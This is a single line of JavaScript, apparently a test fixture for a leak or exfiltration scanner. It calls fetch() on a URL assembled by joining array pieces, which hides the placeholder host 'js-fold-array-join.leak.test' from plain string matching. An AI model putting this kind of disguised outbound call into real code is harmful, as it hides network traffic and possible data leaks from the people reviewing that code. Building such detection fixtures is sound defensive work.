fetch(["https:", "", "js-fold-array-join.leak.test", ""].join("/"))
